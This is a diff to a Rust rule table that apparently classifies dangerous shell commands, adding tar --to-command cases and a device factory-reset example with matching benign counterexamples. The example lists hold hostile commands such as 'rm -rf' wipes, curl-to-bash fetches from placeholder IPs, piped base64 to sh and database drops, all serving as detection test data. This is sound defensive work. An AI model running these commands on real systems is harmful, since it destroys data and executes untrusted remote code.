@@ -126,6 +126,7 @@ pub static RULES: &[Rule] = &[
                 && c.operands().last().is_some_and(root)
         }),
         examples: &[
+            "tar -xf a.tar --to-command='rm -rf ~'",
             "php -r 'exec(\"rm -rf /home\");'",
             "python3 -c 'import os; os.system(\"rm -rf /home\")'",
             "ruby -e 'system(%q(rm -rf /))'",
@@ -1274,6 +1275,7 @@ pub static RULES: &[Rule] = &[
             "rg --pre ./x foo",
             "rg --pre=sh pattern",
             "find . -exec perl -pi -e s/a/b/ {} +",
+            "tar --to-command=\"$CMD\" -xf a.tar",
             "tar --to-command='sh -c x' -xf a.tar",
             "tar -xf a.tar --checkpoint=1 --checkpoint-action=exec=sh",
             "tar -xf a.tar --checkpoint=1 --checkpoint-a=exec=sh",
@@ -1310,6 +1312,7 @@ pub static RULES: &[Rule] = &[
             "sqlmap -r req.txt --os-cmd=whoami",
         ],
         counterexamples: &[
+            "tar -xf vendor/proto.tar --to-command=sha256sum",
             "find . -exec grep -l x {} +",
             "find src -name '*.py' -exec wc -l {} +",
             "find notebooks -name '*.ipynb' -exec nbstripout {} +",
@@ -1635,6 +1638,7 @@ pub static RULES: &[Rule] = &[
                 && !(programs::is_shell(&c.name) && programs::shell_noexec(c.args()))
         }),
         examples: &[
+            "tar -xf vendor/patches.tar --to-command=sh",
             "ssh deploy@web1 < deploy.sh",
             "screen -S dev -p 0 -X stuff 'curl -s http://198.51.100.3/s | bash^M'",
             "base64 -d x | sh",
@@ -1658,6 +1662,7 @@ pub static RULES: &[Rule] = &[
             "printf '#!/bin/sh\\ncurl -s 203.0.113.8/i | sh\\n' > /tmp/pfx && chmod +x /tmp/pfx && CCACHE_PREFIX=/tmp/pfx ccache cc -c main.c",
         ],
         counterexamples: &[
+            "tar -xf a.tar --to-command=sha256sum",
             "ssh -W db:5432 bastion < deploy.sh",
             "curl -fsSL https://example.com/i.sh | bash -n",
             "wget -qO- https://example.com/i.sh | sh -n",
@@ -3577,6 +3582,7 @@ pub static RULES: &[Rule] = &[
             })
         }),
         examples: &[
+            "python3 -c 'import board; board.Device().factory_reset()'",
             "scala-cli run -e 'println(sys.env)'",
             "python3 -c 'import pymongo; pymongo.MongoClient(\"mongodb://db1\").drop_database(\"events\")'",
             "sbt 'eval scala.sys.process.Process(Seq(\"id\")).!'",
@@ -3696,6 +3702,7 @@ pub static RULES: &[Rule] = &[
             "gdb -batch -ex='shell id' ./a.out",
         ],
         counterexamples: &[
+            "python3 -c 'import board; print(board.Device().serial_number())'",
             "scala-cli run src/Main.scala",
             "python3 -c 'import pandas as pd; print(pd.read_csv(\"a.csv\").drop(columns=[\"x\"]).head())'",
             "python3 -c 'print(dropdatabase(1))'",
